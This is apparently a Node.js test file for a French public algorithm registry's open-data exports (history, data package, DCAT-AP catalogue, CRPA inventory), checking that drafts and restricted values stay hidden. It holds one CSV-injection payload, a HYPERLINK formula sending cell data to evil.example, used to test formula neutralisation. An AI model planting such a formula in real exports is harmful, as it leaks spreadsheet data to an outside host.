// opendata.test.mjs — the open data of issue 6 §3 beyond the record exports
// (api_opendata.c, export_history.c, opendata.c, page_inventory.c,
// cli_export.c):
//   GET /api/v1/exports/history.jsonl, history.csv, `iat export history`
//   GET /api/v1/exports/datapackage.json (Frictionless)
//   GET /api/v1/catalog.jsonld (DCAT-AP)
//   GET /organisations/{key}/inventaire-algorithmes and
//   GET /api/v1/organisations/{key}/algorithm-inventory.csv (CRPA)
//
// What is proved
// - History: one line per public version of every visible record, exactly
//   the versions (number, state, date, note) the public versions API lists,
//   each doc equal field by field to the public version API's document;
//   never a draft version, a draft record, a restricted field, item or
//   raw source value (markers planted in each); the owner at each version
//   (key, SIREN) and the origin of reuses; the retraction reason on the
//   retracted version. Agents' token: restricted values present, drafts
//   still absent. CSV: the same versions, formula cells neutralised. The
//   CLI writes the server's bytes, and its summary counts the versions.
// - Data package: valid against the official Frictionless profiles shipped
//   by npm `datapackage` (tabular-data-package) and `tableschema`
//   (table-schema), validated with their validator (tv4); every column of
//   the real public CSV (and of the history and impact CSVs) described in
//   file order, every cell of every row satisfying its field's type, enum,
//   pattern, length and bounds (a checker written here); no restricted
//   column described.
// - DCAT-AP: expanded by the JSON-LD processor npm `jsonld` with no remote
//   fetch allowed; the catalogue, its datasets and distributions carry the
//   mandatory and recommended DCAT-AP properties, absolute URLs that answer
//   200 on the server, EU file types.
// - CRPA inventory: the page (accessible table) and CSV (both flavours)
//   list the authority's published records with Etalab's columns; the
//   public never gets the contact or the operations (markers), agents do;
//   formula cells are neutralised; bad keys and formats are refused.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { createRequire } from 'node:module';
import { after, before, test } from 'node:test';

import {
  assertApiError,
  assertCsvInert,
  assertHtmlPage,
  BORDEAUX_METROPOLE,
  LYON,
  PROCESSED_CSV,
  SOURCE_DIR,
  createRecord,
  createWebAccount,
  csvRows,
  iat,
  importCsv,
  setupLibrary,
  startServer,
  stopServerClean,
  validRecord,
  webClient,
} from './lib.mjs';

const require = createRequire(path.join(SOURCE_DIR, 'package.json'));
const tv4 = require('tv4');
const jsonld = require('jsonld');
const PKG_PROFILE = require('datapackage/lib/profiles/tabular-data-package.json');
const TS_PROFILE = require('tableschema/lib/profiles/table-schema.json');

const BASE = 'https://iat.exemple.fr';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"clic")';
const MARK = 'RESERVE-MARQUEUR-7Q';           // in every restricted value
const DRAFT_MARK = 'BROUILLON-MARQUEUR-9Z';   // only in draft versions
const CONTACT = `contact-${MARK}@bordeaux-metropole.example.fr`;
const OPS = `Operations ${MARK} : score pondéré`;
const AGENT_WEB = 'agent-web@lyon.example.fr';
let env;
let srv;
const R = {};

const get = (p, token) => srv.request('GET', p, { token });

before(async () => {
  env = setupLibrary();
  // an imported record whose raw source values include restricted columns
  const src = fs.readFileSync(PROCESSED_CSV, 'utf8').split(/\r?\n/);
  const crafted = path.join(env.dir, 'restricted-columns.csv');
  fs.writeFileSync(crafted, `${src[0]};projet_contact;algorithme_operations\n${src[1]};import-${MARK}@example.fr;Ops ${MARK}\n`);
  importCsv(env.db, crafted);
  createWebAccount(env.db, AGENT_WEB, 'agent', LYON.insee);
  srv = await startServer(env.db, ['--base-url', BASE]);
  const t = env.tokens;
  const patch = async (id, token, json) => {
    const r = await srv.request('PATCH', `/api/v1/usecases/${id}`, { token, json });
    assert.equal(r.status, 200, r.text);
    return r.json.data;
  };
  // R.hist: v1 draft (draft marker), v2 published, v3 public change, v4
  // restricted-only change, v5 owner Lyon, v6 retracted
  R.hist = await createRecord(srv, t.agentBdx, validRecord({
    title: 'Fiche au long historique', description: `Texte ${DRAFT_MARK}`, contact: CONTACT,
  }));
  await patch(R.hist.id, t.refBdx, { state: 'published', description: 'Texte publié.' });
  await patch(R.hist.id, t.refBdx, { summary: 'Résumé de la troisième version.' });
  await patch(R.hist.id, t.refBdx, { funding: `Financement ${MARK}` });
  await patch(R.hist.id, t.curator, { owner: LYON.key });
  const rt = await srv.request('POST', `/api/v1/usecases/${R.hist.id}/retract`, { token: t.curator, json: { reason: 'Projet arrêté en 2025' } });
  assert.equal(rt.status, 200, rt.text);
  // R.algo: a published record filling the CRPA columns, with restricted values and a formula
  R.algo = await createRecord(srv, t.curator, validRecord({
    title: 'Attribution des places en crèche',
    algorithm_name: FORMULA,
    summary: '-Classer les demandes de place en crèche selon des critères publics.',
    state: 'published',
    contact: CONTACT,
    algorithm_operations: OPS,
    funding: `Financement ${MARK}`,
    decision_scope: 'Décision à portée externe : attribution des places.',
    individual_decisions: true,
    automation_level: 'decision_support',
    decisions_per_year: 1500,
    audiences: ['general_public'],
    data_sources: ['internal_dataset'],
    personal_data: 'personal',
    legal_bases: [{ title: 'Code de l\'action sociale, article L214-2', url: 'https://www.legifrance.gouv.fr/codes/article_lc/LEGIARTI000031721539' }],
    info_url: 'https://www.bordeaux-metropole.fr/creches',
    indicators: [
      { name: 'Délai de réponse', unit: 'jours', type: 'impact', baseline: { value: 30, date: '2023-01-15' }, visibility: 'public' },
      { name: `Indicateur ${MARK}`, unit: '€', baseline: { value: 1000, date: '2023-01-01' }, visibility: 'restricted' },
    ],
    reuse_kit: [{ kind: 'contract', title: `Kit ${MARK}`, reference: 'Marché 2024-017', visibility: 'restricted' }],
  }));
  // a published reuse of R.algo by Lyon
  const ru = await srv.request('POST', `/api/v1/usecases/${R.algo.id}/reuses`, {
    token: t.curator, json: { owner: LYON.key, reuse_context: 'Reprise lyonnaise.', status: 'experiment', state: 'published' },
  });
  assert.equal(ru.status, 201, ru.text);
  R.reuse = ru.json.data;
  // never public: a draft record and a submitted one
  R.draft = await createRecord(srv, t.agentBdx, validRecord({ title: `Brouillon ${DRAFT_MARK}` }));
  R.submitted = await createRecord(srv, t.agentBdx, validRecord({ title: `Soumise ${DRAFT_MARK}`, state: 'submitted' }));
});

after(async () => {
  if (srv) await stopServerClean(srv);
});

function jsonLines(text) {
  assert.ok(text.endsWith('\n'), 'JSON Lines end with a line feed');
  return text.slice(0, -1).split('\n').map((l) => JSON.parse(l));
}

async function visibleIds() {
  const ids = [];
  for (let page = 1; ; page++) {
    const r = await get(`/api/v1/usecases?per_page=100&page=${page}`);
    assert.equal(r.status, 200, r.text);
    ids.push(...r.json.data.map((x) => x.id));
    if (ids.length >= r.json.meta.total || r.json.data.length === 0) break;
  }
  return ids;
}

let schemaFields;
async function modelFields() {
  if (!schemaFields) {
    const r = await get('/api/v1/schema');
    assert.equal(r.status, 200);
    schemaFields = r.json.data.fields;
  }
  return schemaFields;
}

const empty = (v) => v === undefined || v === null || v === '' || (Array.isArray(v) && v.length === 0);

// ==== history ====

test('history.jsonl: exactly the public versions of every visible record, as the public versions API shows them', async () => {
  const r = await get('/api/v1/exports/history.jsonl');
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^application\/x-ndjson/);
  assert.match(r.headers.get('content-disposition'), /^attachment; filename="iat-historique-\d{4}-\d{2}-\d{2}\.jsonl"$/);
  assert.ok(!r.text.includes(MARK), 'no restricted value in the public history');
  assert.ok(!r.text.includes(DRAFT_MARK), 'no draft version in the history');
  const lines = jsonLines(r.text);
  const fields = await modelFields();
  const ids = await visibleIds();
  assert.deepEqual([...new Set(lines.map((l) => l.id))].sort((a, b) => a - b), [...ids].sort((a, b) => a - b),
    'the visible records, all of them, and only them');
  assert.ok(!lines.some((l) => l.id === R.draft.id || l.id === R.submitted.id));
  // ordered by (id, version)
  for (let i = 1; i < lines.length; i++) {
    const a = lines[i - 1];
    const b = lines[i];
    assert.ok(a.id < b.id || (a.id === b.id && a.version < b.version), `order at line ${i + 1}`);
  }
  for (const id of ids) {
    const mine = lines.filter((l) => l.id === id);
    const vr = await get(`/api/v1/usecases/${id}/versions`);
    assert.equal(vr.status, 200);
    const pub = [...vr.json.data].reverse();
    assert.deepEqual(mine.map((l) => [l.version, l.state, l.at, l.note ?? null]),
      pub.map((v) => [v.version, v.state, v.at, v.note ?? null]), `versions of ${id}`);
    assert.deepEqual(mine.map((l) => l.author_kind), pub.map((v) => v.author.kind));
    for (const l of mine) {
      assert.equal(l.schema_version, '1.1');
      assert.match(l.at, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
      assert.equal(l.url, `${BASE}/fiches/${l.id}-${l.slug}`);
      const one = await get(`/api/v1/usecases/${id}/versions/${l.version}`);
      assert.equal(one.status, 200);
      const api = one.json.data;
      for (const f of fields) {
        if (f.visibility !== 'public') {
          assert.ok(!(f.name in l.doc), `restricted field ${f.name} absent from ${id} v${l.version}`);
          continue;
        }
        const mineV = l.doc[f.name];
        let apiV = api[f.name];
        if (f.type === 'organisation' && apiV) apiV = apiV.id;
        if (f.type === 'organisation_list' && apiV) apiV = apiV.map((o) => o.id);
        if (empty(mineV) && empty(apiV)) continue;
        assert.deepEqual(mineV, apiV, `${id} v${l.version} field ${f.name}`);
      }
      // the owner at that version: the doc's key, resolved
      assert.equal(l.owner.id, l.doc.owner);
      assert.equal(l.owner.id, api.owner.id);
      assert.equal(l.owner.siren, api.owner.siren);
      assert.equal(l.reuse_of, api.reuse_of ? api.reuse_of.id : null);
      assert.equal(l.created_at, api.created_at);
    }
  }
  // the long history: v1 (draft) absent, Bordeaux then Lyon, retracted with its reason
  const h = lines.filter((l) => l.id === R.hist.id);
  assert.deepEqual(h.map((l) => l.version), [2, 3, 4, 5, 6]);
  assert.deepEqual(h.map((l) => l.state), ['published', 'published', 'published', 'published', 'retracted']);
  assert.deepEqual(h.map((l) => l.owner.id), [BORDEAUX_METROPOLE.key, BORDEAUX_METROPOLE.key, BORDEAUX_METROPOLE.key, LYON.key, LYON.key]);
  assert.equal(h[0].owner.siren, BORDEAUX_METROPOLE.siren);
  assert.equal(h[0].owner.insee_code, null);
  assert.equal(h[3].owner.insee_code, LYON.insee);
  assert.equal(h[4].retract_reason, 'Projet arrêté en 2025');
  assert.equal(h[3].retract_reason, null);
  assert.equal(h[1].doc.summary, 'Résumé de la troisième version.');
  // the reuse names its origin; public indicators only
  const reuse = lines.find((l) => l.id === R.reuse.id);
  assert.equal(reuse.reuse_of, R.algo.id);
  const algo = lines.find((l) => l.id === R.algo.id);
  assert.deepEqual(algo.doc.indicators.map((i) => i.name), ['Délai de réponse']);
  assert.equal(algo.doc.reuse_kit, undefined);
  // imported records: provenance without raw values of restricted columns
  const imported = lines.filter((l) => l.doc.provenance);
  assert.ok(imported.length >= 24, 'the imported records are in the history');
  for (const l of imported) {
    assert.equal(l.author_kind, 'import');
    for (const col of ['projet_contact', 'algorithme_operations', 'financement', 'budget', 'herbergement', 'donnees_acces'])
      assert.ok(!(col in (l.doc.provenance.raw || {})), `raw ${col} of record ${l.id}`);
  }
});

test('history.jsonl with an agent token: restricted fields and items, still no draft', async () => {
  const r = await get('/api/v1/exports/history.jsonl', env.tokens.agentLyon);
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-disposition'), /filename="iat-historique-agents-/);
  assert.ok(!r.text.includes(DRAFT_MARK), 'drafts never leave the site');
  const lines = jsonLines(r.text);
  const h = lines.filter((l) => l.id === R.hist.id);
  assert.deepEqual(h.map((l) => l.version), [2, 3, 4, 5, 6]);
  assert.equal(h[0].doc.contact, CONTACT);
  assert.equal(h[2].doc.funding, `Financement ${MARK}`);
  const algo = lines.find((l) => l.id === R.algo.id);
  assert.equal(algo.doc.algorithm_operations, OPS);
  assert.equal(algo.doc.indicators.length, 2);
  assert.equal(algo.doc.reuse_kit.length, 1);
  const imp = lines.find((l) => l.doc.provenance && l.doc.provenance.raw && l.doc.provenance.raw.projet_contact);
  assert.ok(imp, 'raw restricted values of imports for agents');
  assert.equal(imp.doc.provenance.raw.projet_contact, `import-${MARK}@example.fr`);
});

test('history.csv: the same versions, the record CSV cells, formulas neutralised', async () => {
  const j = jsonLines((await get('/api/v1/exports/history.jsonl')).text);
  const r = await get('/api/v1/exports/history.csv');
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^text\/csv; charset=utf-8/);
  assert.ok(!r.text.includes(MARK));
  assert.ok(!r.text.includes(DRAFT_MARK));
  assert.ok(r.text.includes('\r\n'));
  const rows = assertCsvInert(r.text);
  const [head, ...body] = rows;
  assert.deepEqual(head.slice(0, 8), ['id', 'version', 'state', 'at', 'note', 'author_kind', 'url', 'schema_version']);
  assert.equal(body.length, j.length);
  const col = (name) => head.indexOf(name);
  body.forEach((row, i) => {
    assert.equal(Number(row[col('id')]), j[i].id);
    assert.equal(Number(row[col('version')]), j[i].version);
    assert.equal(row[col('at')], j[i].at);
    assert.equal(row[col('owner_id')], j[i].owner.id);
    assert.equal(row[col('owner_siren')], j[i].owner.siren ?? '');
    assert.equal(row[col('title')].replace(/^'/, ''), j[i].doc.title);
  });
  const algo = body.find((row) => Number(row[col('id')]) === R.algo.id);
  assert.equal(algo[col('algorithm_name')], `'${FORMULA}`);
  for (const f of (await modelFields()).filter((x) => x.visibility === 'restricted')) assert.ok(!head.includes(f.name), f.name);
  const agents = await get('/api/v1/exports/history.csv', env.tokens.agentBdx);
  assert.ok(agents.text.includes(MARK));
  assert.ok(csvRows(agents.text)[0].includes('contact'));
});

test('iat export history: the server\'s bytes, --restricted, summary on stderr, bad arguments', async () => {
  const out = path.join(env.dir, 'history.jsonl');
  const r = iat(['export', 'history', '--db', env.db, '--out', out, '--base-url', BASE]);
  assert.equal(r.code, 0, r.stderr);
  const server = (await get('/api/v1/exports/history.jsonl')).text;
  assert.equal(fs.readFileSync(out, 'utf8'), server);
  const n = server.split('\n').length - 1;
  assert.match(r.stderr, new RegExp(`^export history : ${n} versions \\(champs publics\\) → .*history\\.jsonl \\(\\d+ octets, [\\d.]+ s\\)\\n$`));
  const csv = iat(['export', 'history-csv', '--db', env.db, '--base-url', BASE]);
  assert.equal(csv.code, 0, csv.stderr);
  assert.equal(csv.stdout, (await get('/api/v1/exports/history.csv')).text);
  const rs = iat(['export', 'history', '--db', env.db, '--restricted']);
  assert.equal(rs.code, 0);
  assert.ok(rs.stdout.includes(MARK));
  assert.ok(!rs.stdout.includes(DRAFT_MARK));
  assert.match(rs.stderr, /versions \(avec les champs réservés\)/);
  const bad = iat(['export', 'history', '--db', env.db, '--base-url', 'ftp://x']);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /--base-url/);
});

test('CLI progress on a terminal: one line rewritten in place, erased before the summary', () => {
  // script(1) gives the command a pseudo-terminal
  const cmd = `${process.env.IAT_BIN} export history --db ${env.db} --out ${path.join(env.dir, 'tty.jsonl')}`;
  const r = spawnSync('script', ['-qec', cmd, '/dev/null'], { encoding: 'utf8', timeout: 120000 });
  if (r.error && r.error.code === 'ENOENT') return; // no script(1): nothing to prove here
  assert.equal(r.status, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /\rexport : \d+ \/ \d+ versions \(\d+ %\)/);
  assert.match(r.stdout, /\r\x1b\[Kexport history : \d+ versions/, 'the progress line is erased before the summary');
});

// ==== data package ====

/** Check one CSV cell against a Table Schema field; returns an error or null. */
function cellProblem(field, cell) {
  const c = field.constraints || {};
  if (cell === '' || (field.missingValues || ['']).includes(cell)) return c.required ? 'required' : null;
  let v = cell;
  // a formula-neutralised text cell: the value is what follows the apostrophe
  if (field.type === 'string' && /^'[\s]*[=+\-@\t\r]/.test(cell)) v = cell.slice(1);
  switch (field.type) {
    case 'string':
      if (field.format === 'uri' && !/^https?:\/\/[^\s]+$/.test(v)) return 'uri';
      break;
    case 'integer':
      if (!/^-?\d+$/.test(v)) return 'integer';
      break;
    case 'number':
      if (!/^-?\d+(\.\d+)?$/.test(v)) return 'number';
      break;
    case 'boolean':
      if (![...(field.trueValues || ['true']), ...(field.falseValues || ['false'])].includes(v)) return 'boolean';
      break;
    case 'datetime':
      if (!/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/.test(v) || Number.isNaN(Date.parse(v))) return 'datetime';
      break;
    case 'date':
      if (!/^\d{4}-\d{2}-\d{2}$/.test(v)) return 'date';
      break;
    case 'array':
      try {
        if (!Array.isArray(JSON.parse(v))) return 'array';
      } catch {
        return 'array (JSON)';
      }
      break;
    default:
      return `unknown type ${field.type}`;
  }
  if (c.enum && !c.enum.includes(v)) return `enum (${v})`;
  if (c.pattern && !new RegExp(`^(?:${c.pattern.replace(/^\^/, '').replace(/\$$/, '')})$`).test(v)) return `pattern ${c.pattern}`;
  if (c.maxLength !== undefined && [...v].length > c.maxLength) return 'maxLength';
  if (c.minLength !== undefined && [...v].length < c.minLength) return 'minLength';
  if (c.minimum !== undefined && Number(v) < c.minimum) return 'minimum';
  if (c.maximum !== undefined && Number(v) > c.maximum) return 'maximum';
  return null;
}

function checkCsvAgainst(schema, text, what) {
  const [head, ...rows] = csvRows(text);
  assert.deepEqual(head, schema.fields.map((f) => f.name), `${what}: every column described, in file order`);
  const pk = [].concat(schema.primaryKey || []);
  const keys = new Set();
  rows.forEach((row, i) => {
    assert.equal(row.length, head.length, `${what} row ${i + 2}: cell count`);
    schema.fields.forEach((f, j) => {
      const p = cellProblem(f, row[j]);
      if (p !== null) assert.fail(`${what} row ${i + 2}, column ${f.name}: ${p}: ${JSON.stringify(row[j].slice(0, 80))} (${[...row[j]].length} chars)`);
    });
    if (pk.length) {
      const k = pk.map((n) => row[head.indexOf(n)]).join('\u0000');
      assert.ok(!keys.has(k), `${what}: primary key ${k} unique`);
      keys.add(k);
    }
  });
  return rows.length;
}

test('datapackage.json: valid Frictionless tabular data package; the public CSVs satisfy their Table Schemas', async () => {
  const r = await get('/api/v1/exports/datapackage.json');
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^application\/json/);
  const pkg = r.json;
  const v = tv4.validateMultiple(pkg, PKG_PROFILE);
  assert.ok(v.valid, `tabular-data-package profile: ${JSON.stringify(v.errors.slice(0, 3).map((e) => [e.dataPath, e.message]))}`);
  for (const res of pkg.resources) {
    const s = tv4.validateMultiple(res.schema, TS_PROFILE);
    assert.ok(s.valid, `${res.name}: table-schema profile: ${JSON.stringify(s.errors.slice(0, 3).map((e) => [e.dataPath, e.message]))}`);
    assert.equal(res.profile, 'tabular-data-resource');
    assert.ok(res.path.startsWith(`${BASE}/`), res.path);
    assert.equal(res.encoding, 'utf-8');
    assert.equal(res.dialect.delimiter, ',');
    for (const f of res.schema.fields) assert.ok(f.description && f.description.length > 5, `${res.name}.${f.name} described`);
  }
  // schema.data.gouv.fr metadata
  assert.equal(pkg.countryCode, 'FR');
  assert.equal(pkg.version, '1.1');
  assert.equal(pkg.homepage, `${BASE}/`);
  assert.equal(pkg.licenses[0].name, 'etalab-2.0');
  assert.ok(pkg.contributors.length >= 1 && pkg.title && pkg.description && pkg.name && pkg.lastModified && pkg.created);
  const byName = Object.fromEntries(pkg.resources.map((x) => [x.name, x]));
  assert.deepEqual(Object.keys(byName).sort(), ['fiches', 'historique', 'impact']);
  // no restricted column described
  const restricted = (await modelFields()).filter((f) => f.visibility === 'restricted').map((f) => f.name);
  for (const res of pkg.resources) for (const f of res.schema.fields) assert.ok(!restricted.includes(f.name), `${res.name}: ${f.name}`);
  // vocabularies: enums are the codes of /api/v1/schema
  const theme = byName.fiches.schema.fields.find((f) => f.name === 'theme');
  assert.equal(theme.constraints.required, true);
  assert.ok(theme.constraints.enum.includes('ecological_transition'));
  assert.equal(byName.fiches.schema.primaryKey, 'id');
  assert.equal(byName.fiches.schema.fields.find((f) => f.name === 'owner_siren').constraints.pattern, '^[0-9]{9}$');
  assert.ok(byName.fiches.schema.fields.find((f) => f.name === 'title').constraints.maxLength > 0);
  // the real files, cell by cell (each path is the server's file)
  const local = (u) => u.slice(BASE.length);
  const recs = await get(local(byName.fiches.path));
  assert.equal(recs.status, 200);
  assert.equal(checkCsvAgainst(byName.fiches.schema, recs.text, 'records CSV'), (await visibleIds()).length);
  const hist = await get(local(byName.historique.path));
  assert.ok(checkCsvAgainst(byName.historique.schema, hist.text, 'history CSV') > 30);
  const imp = await get(local(byName.impact.path));
  assert.equal(imp.status, 200);
  assert.deepEqual(csvRows(imp.text)[0], byName.impact.schema.fields.map((f) => f.name), 'impact CSV columns');
  // the checker does catch a bad cell
  assert.notEqual(cellProblem(theme, 'not_a_theme'), null);
  assert.notEqual(cellProblem(byName.fiches.schema.fields.find((f) => f.name === 'owner_siren'), '12345'), null);
  assert.equal(cellProblem({ type: 'string', constraints: { maxLength: 4 } }, `'=abc`), null);
  assert.equal(cellProblem({ type: 'string', constraints: { maxLength: 3 } }, `'=abcd`), 'maxLength');
});

test('the Table Schema of the records CSV: served alone, the data package\'s, and the committed doc/schema-fiches.json', async () => {
  const pkg = (await get('/api/v1/exports/datapackage.json')).json;
  const r = await get('/api/v1/exports/usecases.schema.json');
  assert.equal(r.status, 200);
  assert.deepEqual(r.json, pkg.resources.find((x) => x.name === 'fiches').schema);
  const v = tv4.validateMultiple(r.json, TS_PROFILE);
  assert.ok(v.valid, JSON.stringify(v.errors.slice(0, 3).map((e) => [e.dataPath, e.message])));
  // schema.data.gouv.fr metadata
  for (const k of ['$schema', 'name', 'title', 'description', 'countryCode', 'homepage', 'path', 'version', 'contributors', 'created', 'lastModified', 'licenses', 'resources'])
    assert.ok(r.json[k], k);
  assert.equal(r.json.path, `${BASE}/api/v1/exports/usecases.schema.json`);
  // the committed copy is what the code generates (regenerate: see doc/api.md, "Data package")
  const gen = iat(['export', 'table-schema', '--base-url', 'https://iat.territoires.fr']);
  assert.equal(gen.code, 0, gen.stderr);
  const committed = JSON.parse(fs.readFileSync(path.join(SOURCE_DIR, 'doc/schema-fiches.json'), 'utf8'));
  assert.deepEqual(JSON.parse(gen.stdout), committed,
    'doc/schema-fiches.json is stale: build/iat export table-schema --base-url https://iat.territoires.fr | node -e … (doc/api.md)');
  assert.equal(iat(['export', 'table-schema', '--restricted']).code, 2);
});

// ==== DCAT-AP ====

const DCAT = 'http://www.w3.org/ns/dcat#';
const DCT = 'http://purl.org/dc/terms/';
const first = (node, p) => (node[p] || [])[0];

test('catalog.jsonld: DCAT-AP catalogue expanded by a JSON-LD processor, with the mandatory properties', async () => {
  const r = await get('/api/v1/catalog.jsonld');
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^application\/ld\+json/);
  const doc = JSON.parse(r.text);
  assert.equal(typeof doc['@context'], 'object', 'inline context');
  const documentLoader = (url) => {
    throw new Error(`no remote fetch allowed: ${url}`);
  };
  const expanded = await jsonld.expand(doc, { documentLoader });
  const flat = await jsonld.flatten(doc, null, { documentLoader });
  const nodes = new Map((Array.isArray(flat) ? flat : flat['@graph']).map((n) => [n['@id'], n]));
  const cat = expanded.find((n) => (n['@type'] || []).includes(`${DCAT}Catalog`));
  assert.ok(cat, 'a dcat:Catalog');
  assert.equal(cat['@id'], `${BASE}/api/v1/catalog.jsonld`);
  for (const p of ['title', 'description', 'publisher', 'license', 'language', 'modified']) assert.ok(first(cat, `${DCT}${p}`), `catalogue dct:${p}`);
  assert.ok(first(cat, 'http://xmlns.com/foaf/0.1/homepage'));
  const last = (await get('/api/v1/usecases?per_page=1&sort=updated')).json.data[0];
  if (last && last.updated_at) assert.equal(first(cat, `${DCT}modified`)['@value'], last.updated_at);
  const datasets = cat[`${DCAT}dataset`];
  assert.equal(datasets.length, 3);
  const fetched = new Set();
  for (const ds of datasets) {
    assert.ok((ds['@type'] || []).includes(`${DCAT}Dataset`));
    for (const p of ['title', 'description', 'publisher', 'issued', 'modified', 'conformsTo', 'license'])
      assert.ok(first(ds, `${DCT}${p}`), `${ds['@id']} dct:${p}`);
    for (const p of ['keyword', 'theme', 'contactPoint', 'distribution']) assert.ok(first(ds, `${DCAT}${p}`), `${ds['@id']} dcat:${p}`);
    assert.equal(first(ds, `${DCT}title`)['@language'], 'fr');
    for (const d of ds[`${DCAT}distribution`]) {
      assert.ok((d['@type'] || []).includes(`${DCAT}Distribution`));
      const access = first(d, `${DCAT}accessURL`)['@id'];
      assert.ok(access.startsWith(`${BASE}/`), access);
      assert.match(first(d, `${DCT}format`)['@id'], /^http:\/\/publications\.europa\.eu\/resource\/authority\/file-type\/[A-Z_]+$/);
      assert.equal(first(d, `${DCT}license`)['@id'], 'https://www.etalab.gouv.fr/licence-ouverte-open-licence/');
      const mt = first(d, `${DCAT}mediaType`);
      if (mt) assert.match(mt['@id'], /^https:\/\/www\.iana\.org\/assignments\/media-types\/[a-z]+\/[a-z0-9.+-]+$/);
      const dl = first(d, `${DCAT}downloadURL`);
      const target = (dl || first(d, `${DCAT}accessURL`))['@id'].slice(BASE.length);
      if (!fetched.has(target)) {
        fetched.add(target);
        const got = await get(target);
        assert.equal(got.status, 200, target);
      }
    }
  }
  assert.ok(fetched.has('/api/v1/exports/history.jsonl') && fetched.has('/flux/fiches.atom') && fetched.has('/api/v1/impact.csv'));
  assert.ok(nodes.size > 10);
  // the API as a dcat:DataService serving the three datasets, its OpenAPI contract as description
  const svc = first(cat, `${DCAT}service`);
  assert.ok((svc['@type'] || []).includes(`${DCAT}DataService`));
  assert.equal(first(svc, `${DCAT}endpointURL`)['@id'], `${BASE}/api/v1/`);
  assert.equal(first(svc, `${DCAT}endpointDescription`)['@id'], `${BASE}/api/v1/openapi.json`);
  assert.deepEqual(svc[`${DCAT}servesDataset`].map((x) => x['@id']).sort(), datasets.map((x) => x['@id']).sort());
  // linked from the API documentation
  const docPage = await get('/api/documentation');
  assert.ok(docPage.text.includes('href="/api/v1/catalog.jsonld"'));
});

// ==== CRPA inventory ====

const INV_PAGE = `/organisations/${BORDEAUX_METROPOLE.key}/inventaire-algorithmes`;
const INV_CSV = `/api/v1/organisations/${BORDEAUX_METROPOLE.key}/algorithm-inventory.csv`;

test('CRPA inventory page: accessible table of the published records, no restricted value, linked from the organisation', async () => {
  const org = await get(`/organisations/${BORDEAUX_METROPOLE.key}`);
  assert.ok(org.text.includes(`href="${INV_PAGE}"`), 'linked from the organisation page');
  const r = await get(INV_PAGE);
  assertHtmlPage(r);
  assert.ok(!r.text.includes(MARK), 'no contact, no operations, no restricted value');
  assert.ok(!r.text.includes(DRAFT_MARK));
  assert.match(r.text, /<caption id="titre-inventaire">Algorithmes publics de Bordeaux Métropole \(\d+ algorithmes?\)<\/caption>/);
  for (const h of ['Administration', 'Finalité, objet', 'Place dans la décision', 'Niveau d&#39;automatisation', 'Bases légales',
    'Décisions par an', 'Publics concernés', 'Données et sources', 'Contact (page d&#39;information)'])
    assert.ok(r.text.includes(`<th scope="col">${h}</th>`) || r.text.includes(`<th scope="col">${h.replace(/&#39;/g, "'")}</th>`), h);
  assert.ok(!/Opérations effectuées/.test(r.text));
  assert.ok(r.text.includes(`<th scope="row"><a href="/fiches/${R.algo.id}-`));
  assert.ok(r.text.includes('https://www.bordeaux-metropole.fr/creches'), 'the public contact: the information page');
  assert.ok(r.text.includes('1 500') || r.text.includes('1&#8239;500') || r.text.includes('1\u202f500') || r.text.includes('1\u00a0500'), 'decisions per year');
  assert.ok(!r.text.includes('Fiche au long historique'), 'a retracted record is not in use');
  assert.ok(r.text.includes(`href="${INV_CSV}"`));
  // any accepted key leads to the one address
  const moved = await get(`/organisations/${BORDEAUX_METROPOLE.siren}/inventaire-algorithmes`);
  assert.equal(moved.status, 301);
  assert.equal(moved.headers.get('location'), INV_PAGE);
  assertHtmlPage(await get('/organisations/commune-99999/inventaire-algorithmes'), 404);
  // a signed-in agent (of any organisation) sees the operations and the service's contact
  const c = webClient(srv);
  await c.signIn(AGENT_WEB);
  const a = await c.get(INV_PAGE);
  assert.equal(a.status, 200);
  assert.ok(a.text.includes('<th scope="col">Opérations effectuées (réservé aux agents)</th>'));
  assert.ok(a.text.includes(OPS.replace(/'/g, '&#39;')), 'operations shown to agents');
  assert.ok(a.text.includes(CONTACT), 'contact shown to agents');
});

test('CRPA inventory CSV: Etalab columns, no contact or operations for the public, agents get them, formulas neutralised', async () => {
  const r = await get(INV_CSV);
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^text\/csv/);
  assert.match(r.headers.get('content-disposition'), /filename="inventaire-algorithmes-epci-243300316\.csv"/);
  assert.ok(!r.text.includes(MARK), 'no restricted value in the public inventory');
  const rows = assertCsvInert(r.text);
  const [head, ...body] = rows;
  assert.deepEqual(head, ['administration', 'siren_administration', 'nom_algorithme', 'finalite', 'place_dans_la_decision',
    'decisions_individuelles', 'niveau_automatisation', 'bases_legales', 'decisions_par_an', 'publics_concernes',
    'donnees_et_sources', 'donnees_personnelles', 'contact', 'fiche_id', 'fiche_url', 'mise_a_jour']);
  const col = (n) => head.indexOf(n);
  const algo = body.find((x) => x[col('fiche_id')] === String(R.algo.id));
  assert.ok(algo, 'the published record is listed');
  assert.equal(algo[col('administration')], 'Bordeaux Métropole');
  assert.equal(algo[col('siren_administration')], BORDEAUX_METROPOLE.siren);
  assert.equal(algo[col('nom_algorithme')], `'${FORMULA}`);
  assert.equal(algo[col('finalite')], "'-Classer les demandes de place en crèche selon des critères publics.");
  assert.match(algo[col('place_dans_la_decision')], /attribution des places\. Fonde des décisions individuelles .* : oui\./);
  assert.equal(algo[col('decisions_individuelles')], 'true');
  assert.equal(algo[col('decisions_par_an')], '1500');
  assert.match(algo[col('bases_legales')], /^Code de l'action sociale, article L214-2 \(https:\/\/www\.legifrance/);
  assert.match(algo[col('donnees_et_sources')], /Données personnelles : /);
  assert.equal(algo[col('contact')], 'https://www.bordeaux-metropole.fr/creches');
  assert.equal(algo[col('fiche_url')], `${BASE}/fiches/${R.algo.id}-${R.algo.slug}`);
  assert.match(algo[col('mise_a_jour')], /^\d{4}-\d{2}-\d{2}T/);
  // only published records of that organisation
